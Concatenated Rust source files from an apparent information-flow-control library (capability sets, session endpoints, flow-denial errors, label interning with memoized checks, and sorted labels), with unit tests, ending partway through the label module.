        self.plus = merge_union(&self.plus, &other.plus);
        self.minus = merge_union(&self.minus, &other.minus);
    }

    /// `self ⊆ other` as capability sets.
    pub fn is_subset(&self, other: &CapSet) -> bool {
        sorted_subset(&self.plus, &other.plus) && sorted_subset(&self.minus, &other.minus)
    }

    /// Number of capabilities held.
    pub fn len(&self) -> usize {
        self.plus.len() + self.minus.len()
    }

    /// True if no capabilities are held.
    pub fn is_empty(&self) -> bool {
        self.plus.is_empty() && self.minus.is_empty()
    }

    /// Iterate all capabilities.
    pub fn iter(&self) -> impl Iterator<Item = Capability> + '_ {
        self.plus
            .iter()
            .map(|&t| Capability::plus(t))
            .chain(self.minus.iter().map(|&t| Capability::minus(t)))
    }
}

impl fmt::Debug for CapSet {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "O{{")?;
        for (i, c) in self.iter().enumerate() {
            if i > 0 {
                write!(f, ",")?;
            }
            write!(f, "{c:?}")?;
        }
        write!(f, "}}")
    }
}

impl FromIterator<Capability> for CapSet {
    fn from_iter<I: IntoIterator<Item = Capability>>(iter: I) -> CapSet {
        CapSet::from_caps(iter)
    }
}

// Manual serde: the wire shape is identical to the old derived
// `BTreeSet`-backed struct (`{"plus": [...], "minus": [...]}` with sorted
// arrays), and deserialization re-canonicalizes so a permuted or
// duplicated input cannot smuggle in a non-canonical set.
impl serde::Serialize for CapSet {
    fn to_json(&self) -> Json {
        Json::Obj(vec![
            ("plus".to_string(), self.plus.to_json()),
            ("minus".to_string(), self.minus.to_json()),
        ])
    }
}

impl serde::Deserialize for CapSet {
    fn from_json(v: &Json) -> Result<CapSet, DeError> {
        let plus: Vec<Tag> = serde::Deserialize::from_json(
            v.get("plus").ok_or_else(|| DeError::missing_field("plus"))?,
        )?;
        let minus: Vec<Tag> = serde::Deserialize::from_json(
            v.get("minus").ok_or_else(|| DeError::missing_field("minus"))?,
        )?;
        Ok(CapSet { plus: canonicalize(plus), minus: canonicalize(minus) })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn insert_query_remove() {
        let t = Tag::from_raw(1);
        let mut s = CapSet::empty();
        assert!(s.insert(Capability::plus(t)));
        assert!(!s.insert(Capability::plus(t)), "duplicate insert reports false");
        assert!(s.has_plus(t));
        assert!(!s.has_minus(t));
        assert!(!s.owns(t));
        s.insert(Capability::minus(t));
        assert!(s.owns(t));
        assert!(s.remove(Capability::plus(t)));
        assert!(!s.has_plus(t));
        assert!(!s.remove(Capability::plus(t)));
    }

    #[test]
    fn ownership_insert() {
        let t = Tag::from_raw(2);
        let mut s = CapSet::empty();
        s.insert_ownership(t);
        assert!(s.owns(t));
        assert_eq!(s.len(), 2);
    }

    #[test]
    fn union_and_subset() {
        let t1 = Tag::from_raw(1);
        let t2 = Tag::from_raw(2);
        let a = CapSet::from_caps([Capability::plus(t1)]);
        let b = CapSet::from_caps([Capability::minus(t2)]);
        let u = a.union(&b);
        assert!(a.is_subset(&u));
        assert!(b.is_subset(&u));
        assert!(!u.is_subset(&a));
        assert_eq!(u.len(), 2);
    }

    #[test]
    fn union_merges_overlapping_runs() {
        let tags: Vec<Tag> = (1..=9).map(Tag::from_raw).collect();
        let a = CapSet::from_caps(tags.iter().step_by(2).map(|&t| Capability::plus(t)));
        let b = CapSet::from_caps(tags.iter().skip(2).map(|&t| Capability::plus(t)));
        let u = a.union(&b);
        assert_eq!(u.len(), 9 - 1, "1,3,5,7,9 ∪ 3..=9");
        for &t in tags.iter().filter(|t| t.raw() != 2) {
            assert!(u.has_plus(t));
        }
        assert!(!u.has_plus(Tag::from_raw(2)));
        let mut c = a.clone();
        c.extend(&b);
        assert_eq!(c, u, "extend agrees with union");
    }

    #[test]
    fn subset_mid_run_miss() {
        let a = CapSet::from_caps([Capability::plus(Tag::from_raw(2))]);
        let b = CapSet::from_caps([Capability::plus(Tag::from_raw(1)), Capability::plus(Tag::from_raw(3))]);
        assert!(!a.is_subset(&b));
        assert!(CapSet::empty().is_subset(&a));
        assert!(a.is_subset(&a));
    }

    #[test]
    fn plus_minus_labels() {
        let t1 = Tag::from_raw(1);
        let t2 = Tag::from_raw(2);
        let s = CapSet::from_caps([Capability::plus(t1), Capability::minus(t2), Capability::minus(t1)]);
        assert_eq!(s.plus_label(), Label::from_iter([t1]));
        assert_eq!(s.minus_label(), Label::from_iter([t1, t2]));
    }

    #[test]
    fn iter_covers_both_signs() {
        let t = Tag::from_raw(3);
        let mut s = CapSet::empty();
        s.insert_ownership(t);
        let caps: Vec<_> = s.iter().collect();
        assert!(caps.contains(&Capability::plus(t)));
        assert!(caps.contains(&Capability::minus(t)));
    }

    #[test]
    fn debug_format() {
        let t = Tag::from_raw(4);
        let s = CapSet::from_caps([Capability::plus(t)]);
        assert_eq!(format!("{s:?}"), "O{t4+}");
    }

    #[test]
    fn serde_normalizes_unsorted_input() {
        let t1 = Tag::from_raw(1);
        let t2 = Tag::from_raw(2);
        let s = CapSet::from_caps([Capability::plus(t2), Capability::plus(t1)]);
        let json = serde_json::to_string(&s).unwrap();
        assert_eq!(json, r#"{"plus":[1,2],"minus":[]}"#);
        let back: CapSet = serde_json::from_str(&json).unwrap();
        assert_eq!(back, s);
        // Unsorted / duplicated wire input canonicalizes on decode.
        let messy: CapSet = serde_json::from_str(r#"{"plus":[2,1,2],"minus":[5,5]}"#).unwrap();
        assert_eq!(messy.len(), 3);
        assert!(messy.has_plus(t1) && messy.has_plus(t2) && messy.has_minus(Tag::from_raw(5)));
    }
}
