//! Flume-style endpoints.
//!
//! An endpoint decouples a process's *label state* from the labels its
//! communication channels present to the outside. A process with privileges
//! may create an endpoint whose labels differ from its own, as long as the
//! difference is bridgeable by capabilities it holds; thereafter, each
//! message crossing the endpoint is checked with the *raw* subset test
//! against the endpoint labels — no per-message privilege reasoning.
//!
//! This matters for W5's perimeter: the HTTP exporter keeps an empty
//! process label but opens a per-session endpoint at `S = {e_u}` backed by
//! the `e_u-` it exercises for the authenticated user `u`; data for other
//! users simply cannot reach that endpoint.

use crate::caps::CapSet;
use crate::error::{DifcError, DifcResult};
use crate::rules;
use crate::LabelPair;

/// A validated communication endpoint.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Endpoint {
    labels: LabelPair,
}

impl Endpoint {
    /// Create an endpoint for a process whose current labels are `proc_labels`
    /// and whose *effective* capability set is `caps`.
    ///
    /// Validity (Flume §3.4): the process must be able to safely change its
    /// secrecy label to the endpoint's secrecy, and its integrity label to
    /// the endpoint's integrity. The check happens once, here; message-time
    /// checks are raw.
    pub fn new(proc_labels: &LabelPair, caps: &CapSet, labels: LabelPair) -> DifcResult<Endpoint> {
        rules::safe_change(&proc_labels.secrecy, &labels.secrecy, caps).map_err(|_| {
            DifcError::InvalidEndpoint { reason: "secrecy gap not covered by capabilities" }
        })?;
        rules::safe_change(&proc_labels.integrity, &labels.integrity, caps).map_err(|_| {
            DifcError::InvalidEndpoint { reason: "integrity gap not covered by capabilities" }
        })?;
        Ok(Endpoint { labels })
    }

    /// An endpoint that mirrors the process labels exactly (always valid).
    pub fn mirror(proc_labels: &LabelPair) -> Endpoint {
        Endpoint { labels: proc_labels.clone() }
    }

    /// The endpoint's label pair.
    pub fn labels(&self) -> &LabelPair {
        &self.labels
    }

    /// Raw per-message check: may data labeled `data` be *sent out* through
    /// this endpoint? The data's secrecy must be within the endpoint's, and
    /// the endpoint only claims integrity the data carries.
    pub fn may_send(&self, data: &LabelPair) -> DifcResult<()> {
        if !data.secrecy.is_subset(&self.labels.secrecy) {
            return Err(DifcError::SecrecyViolation {
                leaked: data.secrecy.difference(&self.labels.secrecy),
            });
        }
        if !self.labels.integrity.is_subset(&data.integrity) {
            return Err(DifcError::IntegrityViolation {
                unvouched: self.labels.integrity.difference(&data.integrity),
            });
        }
        Ok(())
    }

    /// Raw per-message check for *receiving*: data arriving through this
    /// endpoint is stamped with the endpoint's labels; receiving is always
    /// allowed, the caller must combine labels with
    /// [`LabelPair::combine`]. Provided for symmetry and future policies.
    pub fn stamp_incoming(&self) -> LabelPair {
        self.labels.clone()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::label::Label;
    use crate::registry::TagRegistry;
    use crate::tag::TagKind;

    #[test]
    fn exporter_session_endpoint() {
        let reg = TagRegistry::new();
        let (e_bob, bob_caps) = reg.create_tag(TagKind::ExportProtect, "export:bob");
        let (e_alice, _) = reg.create_tag(TagKind::ExportProtect, "export:alice");

        // The exporter process is unlabeled but (for Bob's session) wields e_bob-.
        let exporter = LabelPair::public();
        let eff = reg.effective(&bob_caps);
        // Endpoint at S = {e_bob}: reachable because t+ is global (raise) and
        // t- is held (the exporter can come back down).
        let ep = Endpoint::new(
            &exporter,
            &eff,
            LabelPair::new(Label::singleton(e_bob), Label::empty()),
        )
        .expect("session endpoint must validate");

        // Bob's data may flow out to Bob's browser.
        assert!(ep.may_send(&LabelPair::new(Label::singleton(e_bob), Label::empty())).is_ok());
        // Public data may flow out too.
        assert!(ep.may_send(&LabelPair::public()).is_ok());
        // Alice's data must not.
        assert!(ep
            .may_send(&LabelPair::new(Label::singleton(e_alice), Label::empty()))
            .is_err());
        // Data tagged for both users must not (it still contains Alice's secrets).
        assert!(ep
            .may_send(&LabelPair::new(Label::from_iter([e_bob, e_alice]), Label::empty()))
            .is_err());
    }

    #[test]
    fn endpoint_requires_bridgeable_gap() {
        let reg = TagRegistry::new();
        let (e, _creator) = reg.create_tag(TagKind::ExportProtect, "export:x");
        let anyone = reg.effective(&CapSet::empty());
        let proc = LabelPair::new(Label::singleton(e), Label::empty());
        // An unprivileged process at S={e} cannot open an S={} endpoint:
        // that would be an export channel.
        assert!(matches!(
            Endpoint::new(&proc, &anyone, LabelPair::public()),
            Err(DifcError::InvalidEndpoint { .. })
        ));
        // It can open an S={e} endpoint.
        assert!(Endpoint::new(&proc, &anyone, proc.clone()).is_ok());
    }

    #[test]
    fn integrity_endpoint_claims_require_data_to_carry_them() {
        let reg = TagRegistry::new();
        let (w, bob) = reg.create_tag(TagKind::WriteProtect, "write:bob");
        let eff = reg.effective(&bob);
        let proc = LabelPair::public();
        let ep = Endpoint::new(&proc, &eff, LabelPair::new(Label::empty(), Label::singleton(w)))
            .expect("endorser endpoint validates");
        // Sending unvouched data through a w-claiming endpoint is refused.
        assert!(ep.may_send(&LabelPair::public()).is_err());
        assert!(ep
            .may_send(&LabelPair::new(Label::empty(), Label::singleton(w)))
            .is_ok());
    }

    #[test]
    fn mirror_endpoint_passes_own_label_data() {
        let reg = TagRegistry::new();
        let (e, _) = reg.create_tag(TagKind::ExportProtect, "export:y");
        let proc = LabelPair::new(Label::singleton(e), Label::empty());
        let ep = Endpoint::mirror(&proc);
        assert!(ep.may_send(&proc).is_ok());
        assert_eq!(ep.stamp_incoming(), proc);
    }
}
