//! Error types for flow-control decisions.
//!
//! Denials carry enough structure for trusted code (the kernel, the
//! perimeter, experiment harnesses) to explain *why* a flow was refused.
//! Untrusted code must usually not see these details — surfacing "which tag
//! blocked you" is itself an information channel — so the kernel converts
//! them to silent failures where the covert-channel analysis requires it
//! (paper §3.5; see `w5-kernel`).

use crate::label::Label;
use crate::tag::Tag;
use std::fmt;

/// Result alias for DIFC operations.
pub type DifcResult<T> = Result<T, DifcError>;

/// Why a label change or flow was refused.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum DifcError {
    /// A label change added tags without holding the needed `t+`s.
    MissingPlus {
        /// Tags that would be added without authority.
        tags: Label,
    },
    /// A label change removed tags without holding the needed `t-`s.
    MissingMinus {
        /// Tags that would be removed without authority.
        tags: Label,
    },
    /// A secrecy flow `src → dst` would leak the given tags.
    SecrecyViolation {
        /// Tags present at the source that the destination cannot accept.
        leaked: Label,
    },
    /// An integrity flow would let a low-integrity writer taint
    /// high-integrity data.
    IntegrityViolation {
        /// Integrity tags the writer cannot vouch for.
        unvouched: Label,
    },
    /// The tag is not known to the registry.
    UnknownTag(Tag),
    /// An endpoint's labels are not reachable from its owner's labels given
    /// the owner's capabilities.
    InvalidEndpoint {
        /// Human-readable reason (stable across releases only informally).
        reason: &'static str,
    },
}

impl fmt::Display for DifcError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DifcError::MissingPlus { tags } => {
                write!(f, "label change adds {tags:?} without the t+ capabilities")
            }
            DifcError::MissingMinus { tags } => {
                write!(f, "label change removes {tags:?} without the t- capabilities")
            }
            DifcError::SecrecyViolation { leaked } => {
                write!(f, "flow would leak secrecy tags {leaked:?}")
            }
            DifcError::IntegrityViolation { unvouched } => {
                write!(f, "flow would forge integrity tags {unvouched:?}")
            }
            DifcError::UnknownTag(t) => write!(f, "tag {t} is not registered"),
            DifcError::InvalidEndpoint { reason } => write!(f, "invalid endpoint: {reason}"),
        }
    }
}

impl std::error::Error for DifcError {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_is_informative() {
        let e = DifcError::SecrecyViolation {
            leaked: Label::singleton(Tag::from_raw(7)),
        };
        let s = format!("{e}");
        assert!(s.contains("leak"), "{s}");
        assert!(s.contains("t7"), "{s}");
    }

    #[test]
    fn error_trait_object() {
        let e: Box<dyn std::error::Error> = Box::new(DifcError::UnknownTag(Tag::from_raw(1)));
        assert!(e.to_string().contains("not registered"));
    }
}
