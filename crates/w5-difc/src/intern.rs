//! Label interning and memoized flow checks.
//!
//! The paper's design only works if label checks are cheap enough to run on
//! *every* IPC send, file access and database row visit (§2, §3.5). This
//! module makes the steady-state cost of those checks a couple of integer
//! operations:
//!
//! * A **global intern table** maps each canonical tag set to a small
//!   [`LabelId`]. The table is sharded and lock-striped so concurrent
//!   interning from the kernel, store and platform does not serialize.
//!   Label equality between interned labels is a `u32` compare.
//! * **Memoized subset checks**: `can_flow`'s underlying `S_src ⊆ S_dst`
//!   test is cached in a bounded, direct-mapped, lock-free two-key cache
//!   keyed by `(LabelId, LabelId)`. Each slot is a single `AtomicU64`
//!   packing both keys and the result, so readers can never observe a torn
//!   key/value pair.
//! * **Memoized set algebra**: union / intersection / pair-combine results
//!   are cached in small bounded maps, so folding the labels of a 100k-row
//!   scan touches the allocator only once per *distinct* label pair.
//!
//! ## Why memoization is sound
//!
//! Interned ids name immutable tag sets, and the table is **append-only**:
//! an id, once handed out, forever resolves to the same set. The
//! [`crate::TagRegistry`] likewise only grows — tags are never deleted or
//! renumbered, and tag *meaning* (who holds which capability) lives outside
//! the label itself. A cached `a ⊆ b` or `a ∪ b` is therefore valid for the
//! lifetime of the process; no invalidation protocol exists because none is
//! needed. Checks that depend on *capabilities* (which do change) are never
//! cached here — callers memoize those per-scan against a fixed subject
//! (see `w5_store`).
//!
//! ## Determinism
//!
//! Interning consumes no randomness and fires no `w5-chaos` sites, so
//! fault-schedule replays are unaffected. Id *values* depend on arrival
//! order and may differ across runs; nothing semantic is derived from the
//! numeric value of an id, and ids never cross the process boundary (the
//! wire format resolves ids back to tag sets — see [`crate::wire`]).

use crate::label::Label;
use crate::LabelPair;
use w5_sync::{Mutex, RwLock};
use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::OnceLock;
use w5_obs::ObsLabel;

/// Interned label handle: an index into the global intern table.
///
/// Ids are 31-bit (the top bit is reserved for cache packing), which caps
/// the process at ~2 billion *distinct* labels — far beyond any plausible
/// tag population.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct LabelId(u32);

impl LabelId {
    /// The empty (public) label, pre-interned at id 0.
    pub const EMPTY: LabelId = LabelId(0);

    /// The raw table index (diagnostics only; carries no meaning).
    pub fn raw(self) -> u32 {
        self.0
    }

    /// True iff this is the empty label (no table lookup).
    pub fn is_empty(self) -> bool {
        self == LabelId::EMPTY
    }

    /// Resolve back to the tag set. Cheap: a shard-free indexed read plus
    /// an allocation-free clone for inline (0–2 tag) labels.
    pub fn resolve(self) -> Label {
        table().resolve(self)
    }

    /// The ledger-side image, computed once per id and cached.
    pub fn to_obs(self) -> ObsLabel {
        table().resolve_obs(self)
    }
}

/// An interned secrecy/integrity pair — the complete flow-control state of
/// a passive entity, as two integers. `Copy`, 8 bytes, hashes fast.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct PairId {
    /// Interned secrecy label.
    pub secrecy: LabelId,
    /// Interned integrity label.
    pub integrity: LabelId,
}

/// FNV-1a hasher for [`PairId`]/[`LabelId`] keys. Interned ids are two
/// small dense integers, so SipHash's DoS resistance buys nothing and its
/// cost dominates the probes hot paths exist to make cheap. Shared by the
/// store's flow memo and its partition directory.
#[derive(Default)]
pub struct PairIdHasher(u64);

impl std::hash::Hasher for PairIdHasher {
    fn write(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.0 = (self.0 ^ u64::from(b)).wrapping_mul(0x100000001b3);
        }
    }

    fn write_u32(&mut self, v: u32) {
        self.0 = (self.0 ^ u64::from(v)).wrapping_mul(0x100000001b3);
    }

    fn finish(&self) -> u64 {
        self.0
    }
}

/// A `HashMap` keyed by [`PairId`] using the cheap FNV hasher — the map
/// shape every per-label side table (flow memos, partition directories,
/// label resolution caches) wants.
pub type PairIdMap<V> =
    HashMap<PairId, V, std::hash::BuildHasherDefault<PairIdHasher>>;

impl PairId {
    /// The public (empty/empty) pair.
    pub const PUBLIC: PairId = PairId { secrecy: LabelId::EMPTY, integrity: LabelId::EMPTY };

    /// Intern both halves of a pair.
    pub fn intern(pair: &LabelPair) -> PairId {
        PairId { secrecy: intern(&pair.secrecy), integrity: intern(&pair.integrity) }
    }

    /// Resolve back to owned labels.
    pub fn resolve(self) -> LabelPair {
        LabelPair { secrecy: self.secrecy.resolve(), integrity: self.integrity.resolve() }
    }

    /// The pair of data derived from both inputs: secrecy accumulates
    /// (union), integrity degrades (intersection). Memoized; folding many
    /// identical pairs (the common scan shape) never leaves the fast path.
    pub fn combine(self, other: PairId) -> PairId {
        if self == other {
            return self;
        }
        PairId {
            secrecy: union(self.secrecy, other.secrecy),
            integrity: intersect(self.integrity, other.integrity),
        }
    }

    /// True if both labels are empty.
    pub fn is_public(self) -> bool {
        self == PairId::PUBLIC
    }
}

/// Intern a label, returning its stable id. O(1) amortized: one hash, one
/// striped read lock on the hit path.
pub fn intern(label: &Label) -> LabelId {
    table().intern(label)
}

/// Memoized `a ⊆ b` on interned labels — the `can_flow` fast path.
pub fn subset(a: LabelId, b: LabelId) -> bool {
    if a == b || a.is_empty() {
        return true;
    }
    table().subset(a, b)
}

/// Memoized union of interned labels.
pub fn union(a: LabelId, b: LabelId) -> LabelId {
    if a == b || b.is_empty() {
        return a;
    }
    if a.is_empty() {
        return b;
    }
    table().binop(OpKind::Union, a, b)
}

/// Memoized intersection of interned labels.
pub fn intersect(a: LabelId, b: LabelId) -> LabelId {
    if a == b {
        return a;
    }
    if a.is_empty() || b.is_empty() {
        return LabelId::EMPTY;
    }
    table().binop(OpKind::Intersect, a, b)
}

/// Counters for the intern table and its caches (hit rates feed the bench
/// suite and the observability snapshot).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, serde::Serialize, serde::Deserialize)]
pub struct InternStats {
    /// Distinct labels interned so far.
    pub labels: u64,
    /// Intern calls answered from the table.
    pub intern_hits: u64,
    /// Intern calls that inserted a new label.
    pub intern_misses: u64,
    /// Subset queries answered from the flow cache.
    pub flow_hits: u64,
    /// Subset queries that had to run the merge.
    pub flow_misses: u64,
    /// Union/intersection queries answered from the op cache.
    pub op_hits: u64,
    /// Union/intersection queries that had to run the merge.
    pub op_misses: u64,
}

/// Snapshot of the global intern/cache counters.
pub fn stats() -> InternStats {
    table().stats()
}

// ------------------------------------------------------------------ table

const SHARD_COUNT: usize = 16;
/// Flow-cache slots. 2^16 × 8 bytes = 512 KiB; direct-mapped, lossy.
const FLOW_CACHE_SLOTS: usize = 1 << 16;
/// Bounded op-cache entries per op before it is cleared (lossy, like the
/// flow cache: dropping memo entries affects speed, never results).
const OP_CACHE_CAP: usize = 1 << 14;

#[derive(Clone, Copy, PartialEq, Eq, Hash)]
enum OpKind {
    Union,
    Intersect,
}

struct Shard {
    map: RwLock<HashMap<Label, u32>>,
}

struct Interner {
    shards: Vec<Shard>,
    /// id → (label, cached obs image). Append-only.
    labels: RwLock<Vec<(Label, ObsLabel)>>,
    /// Direct-mapped subset cache. Slot layout (one `AtomicU64`):
    /// `[63] valid, [62] result, [61:31] a, [30:0] b`.
    flow: Vec<AtomicU64>,
    ops: Mutex<HashMap<(OpKind, u32, u32), u32>>,
    intern_hits: AtomicU64,
    intern_misses: AtomicU64,
    flow_hits: AtomicU64,
    flow_misses: AtomicU64,
    op_hits: AtomicU64,
    op_misses: AtomicU64,
}

fn table() -> &'static Interner {
    static TABLE: OnceLock<Interner> = OnceLock::new();
    TABLE.get_or_init(Interner::new)
}

fn fnv(mut h: u64, v: u64) -> u64 {
    h ^= v;
    h.wrapping_mul(0x100000001b3)
}

impl Interner {
    fn new() -> Interner {
        let empty = Label::empty();
        let mut shards = Vec::with_capacity(SHARD_COUNT);
        for i in 0..SHARD_COUNT {
            shards.push(Shard { map: RwLock::with_index("difc.intern.shard", i as u32, HashMap::new()) });
        }
        // Pre-intern the empty label at id 0 so `LabelId::EMPTY` is valid.
        shards[Self::shard_of(&empty)].map.write().insert(empty.clone(), 0);
        let obs = empty.to_obs_uncached();
        let mut flow = Vec::with_capacity(FLOW_CACHE_SLOTS);
        flow.resize_with(FLOW_CACHE_SLOTS, || AtomicU64::new(0));
        Interner {
            shards,
            labels: RwLock::new("difc.intern.table", vec![(empty, obs)]),
            flow,
            ops: Mutex::new("difc.intern.ops", HashMap::new()),
            intern_hits: AtomicU64::new(0),
            intern_misses: AtomicU64::new(0),
            flow_hits: AtomicU64::new(0),
            flow_misses: AtomicU64::new(0),
            op_hits: AtomicU64::new(0),
            op_misses: AtomicU64::new(0),
        }
    }

    fn shard_of(label: &Label) -> usize {
        let mut h = 0xcbf29ce484222325;
        for t in label.iter() {
            h = fnv(h, t.raw());
        }
        (h as usize) & (SHARD_COUNT - 1)
    }

    fn intern(&self, label: &Label) -> LabelId {
        if label.is_empty() {
            return LabelId::EMPTY;
        }
        let shard = &self.shards[Self::shard_of(label)];
        if let Some(&id) = shard.map.read().get(label) {
            self.intern_hits.fetch_add(1, Ordering::Relaxed);
            return LabelId(id);
        }
        // Miss: take the shard write lock, re-check, then append. Lock
        // order is always shard → labels, so stripes cannot deadlock.
        let mut map = shard.map.write();
        if let Some(&id) = map.get(label) {
            self.intern_hits.fetch_add(1, Ordering::Relaxed);
            return LabelId(id);
        }
        let mut labels = self.labels.write();
        let id = labels.len() as u32;
        assert!(id <= i32::MAX as u32, "label intern table overflow");
        labels.push((label.clone(), label.to_obs_uncached()));
        drop(labels);
        map.insert(label.clone(), id);
        self.intern_misses.fetch_add(1, Ordering::Relaxed);
        LabelId(id)
    }

    fn resolve(&self, id: LabelId) -> Label {
        self.labels.read()[id.0 as usize].0.clone()
    }

    fn resolve_obs(&self, id: LabelId) -> ObsLabel {
        self.labels.read()[id.0 as usize].1.clone()
    }

    fn subset(&self, a: LabelId, b: LabelId) -> bool {
        let key_a = a.0 as u64;
        let key_b = b.0 as u64;
        let slot_ix = (fnv(fnv(0xcbf29ce484222325, key_a), key_b) as usize) & (FLOW_CACHE_SLOTS - 1);
        let slot = &self.flow[slot_ix];
        let packed = slot.load(Ordering::Relaxed);
        let key = (key_a << 31) | key_b;
        if packed & (1 << 63) != 0 && packed & ((1 << 62) - 1) == key {
            self.flow_hits.fetch_add(1, Ordering::Relaxed);
            return packed & (1 << 62) != 0;
        }
        self.flow_misses.fetch_add(1, Ordering::Relaxed);
        let result = {
            let labels = self.labels.read();
            labels[a.0 as usize].0.is_subset(&labels[b.0 as usize].0)
        };
        let entry = (1 << 63) | (u64::from(result) << 62) | key;
        slot.store(entry, Ordering::Relaxed);
        result
    }

    fn binop(&self, op: OpKind, a: LabelId, b: LabelId) -> LabelId {
        // Union/intersection are commutative: canonicalize the key.
        let (x, y) = if a.0 <= b.0 { (a.0, b.0) } else { (b.0, a.0) };
        {
            let ops = self.ops.lock();
            if let Some(&id) = ops.get(&(op, x, y)) {
                self.op_hits.fetch_add(1, Ordering::Relaxed);
                return LabelId(id);
            }
        }
        self.op_misses.fetch_add(1, Ordering::Relaxed);
        let result = {
            let labels = self.labels.read();
            let (la, lb) = (&labels[a.0 as usize].0, &labels[b.0 as usize].0);
            match op {
                OpKind::Union => la.union(lb),
                OpKind::Intersect => la.intersection(lb),
            }
        };
        let id = self.intern(&result);
        let mut ops = self.ops.lock();
        if ops.len() >= OP_CACHE_CAP {
            // Bounded: dump the memo rather than growing without limit.
            ops.clear();
        }
        ops.insert((op, x, y), id.0);
        id
    }

    fn stats(&self) -> InternStats {
        InternStats {
            labels: self.labels.read().len() as u64,
            intern_hits: self.intern_hits.load(Ordering::Relaxed),
            intern_misses: self.intern_misses.load(Ordering::Relaxed),
            flow_hits: self.flow_hits.load(Ordering::Relaxed),
            flow_misses: self.flow_misses.load(Ordering::Relaxed),
            op_hits: self.op_hits.load(Ordering::Relaxed),
            op_misses: self.op_misses.load(Ordering::Relaxed),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::tag::Tag;

    fn l(ids: &[u64]) -> Label {
        Label::from_iter(ids.iter().map(|&i| Tag::from_raw(i)))
    }

    #[test]
    fn intern_is_stable_and_deduplicating() {
        let a = intern(&l(&[100_001, 100_002]));
        let b = intern(&l(&[100_002, 100_001]));
        assert_eq!(a, b, "same set, same id");
        assert_eq!(a.resolve(), l(&[100_001, 100_002]));
        let c = intern(&l(&[100_003]));
        assert_ne!(a, c);
    }

    #[test]
    fn empty_is_id_zero() {
        assert_eq!(intern(&Label::empty()), LabelId::EMPTY);
        assert!(LabelId::EMPTY.is_empty());
        assert!(LabelId::EMPTY.resolve().is_empty());
    }

    #[test]
    fn subset_agrees_with_labels_and_caches() {
        let a = intern(&l(&[200_001]));
        let b = intern(&l(&[200_001, 200_002]));
        // Run twice: second round must come from the cache with the same
        // answer.
        for _ in 0..2 {
            assert!(subset(a, b));
            assert!(!subset(b, a));
            assert!(subset(a, a));
            assert!(subset(LabelId::EMPTY, a));
        }
    }

    #[test]
    fn union_and_intersect_match_label_algebra() {
        let a = intern(&l(&[300_001, 300_002]));
        let b = intern(&l(&[300_002, 300_003]));
        assert_eq!(union(a, b).resolve(), l(&[300_001, 300_002, 300_003]));
        assert_eq!(intersect(a, b).resolve(), l(&[300_002]));
        assert_eq!(union(a, LabelId::EMPTY), a);
        assert_eq!(intersect(a, LabelId::EMPTY), LabelId::EMPTY);
        // Memoized second round.
        assert_eq!(union(a, b), union(b, a));
        assert_eq!(intersect(a, b), intersect(b, a));
    }

    #[test]
    fn pair_combine_matches_labelpair_combine() {
        let pa = LabelPair::new(l(&[400_001]), l(&[400_008, 400_009]));
        let pb = LabelPair::new(l(&[400_002]), l(&[400_009]));
        let ia = PairId::intern(&pa);
        let ib = PairId::intern(&pb);
        assert_eq!(ia.combine(ib).resolve(), pa.combine(&pb));
        assert_eq!(ia.combine(ia), ia, "self-combine is the identity");
        assert!(PairId::PUBLIC.is_public());
        assert_eq!(PairId::intern(&LabelPair::public()), PairId::PUBLIC);
    }

    #[test]
    fn obs_image_is_cached_and_correct() {
        let lab = l(&[500_001, 500_002]);
        let id = intern(&lab);
        assert_eq!(id.to_obs(), lab.to_obs_uncached());
        assert_eq!(lab.to_obs(), lab.to_obs_uncached());
    }

    #[test]
    fn concurrent_interning_yields_one_id_per_set() {
        let mut handles = Vec::new();
        for _ in 0..8 {
            handles.push(std::thread::spawn(|| {
                (0..64u64)
                    .map(|i| intern(&l(&[600_000 + i, 600_100 + i])))
                    .collect::<Vec<_>>()
            }));
        }
        let all: Vec<Vec<LabelId>> = handles.into_iter().map(|h| h.join().unwrap()).collect();
        for ids in &all[1..] {
            assert_eq!(ids, &all[0], "every thread sees the same ids");
        }
    }

    #[test]
    fn stats_move() {
        let before = stats();
        let _ = intern(&l(&[700_001]));
        let _ = intern(&l(&[700_001]));
        let after = stats();
        assert!(after.labels >= before.labels);
        assert!(
            after.intern_hits + after.intern_misses
                > before.intern_hits + before.intern_misses
        );
    }
}
