//! Labels: sorted sets of tags with cheap set algebra.
//!
//! Labels are the hot data structure of the whole platform — every IPC send,
//! file access and database row visit performs label comparisons — so the
//! representation is a sorted, deduplicated `Vec<Tag>`:
//!
//! * subset / equality checks are linear merges with no allocation,
//! * union / intersection / difference are single-pass merges,
//! * the common cases (empty label, singleton `{e_u}`) stay tiny.
//!
//! Labels are immutable in spirit: all operations return new labels, which
//! keeps sharing across threads trivial.

use crate::tag::Tag;
use std::fmt;

/// A set of [`Tag`]s. Invariant: the backing vector is sorted and contains
/// no duplicates.
#[derive(Clone, Default, PartialEq, Eq, Hash, serde::Serialize, serde::Deserialize)]
#[serde(transparent)]
pub struct Label(Vec<Tag>);

impl Label {
    /// The empty label (public data / no integrity claims).
    pub fn empty() -> Label {
        Label(Vec::new())
    }

    /// A label containing a single tag.
    pub fn singleton(tag: Tag) -> Label {
        Label(vec![tag])
    }

    /// Build from an unsorted, possibly duplicated tag collection.
    /// Deliberately an inherent method, not `FromIterator`, so label
    /// construction stays greppable at call sites.
    #[allow(clippy::should_implement_trait)]
    pub fn from_iter<I: IntoIterator<Item = Tag>>(tags: I) -> Label {
        let mut v: Vec<Tag> = tags.into_iter().collect();
        v.sort_unstable();
        v.dedup();
        Label(v)
    }

    /// Build from a vector that the caller guarantees is sorted and
    /// deduplicated. Checked in debug builds.
    pub fn from_sorted_vec(v: Vec<Tag>) -> Label {
        debug_assert!(v.windows(2).all(|w| w[0] < w[1]), "label vec not strictly sorted");
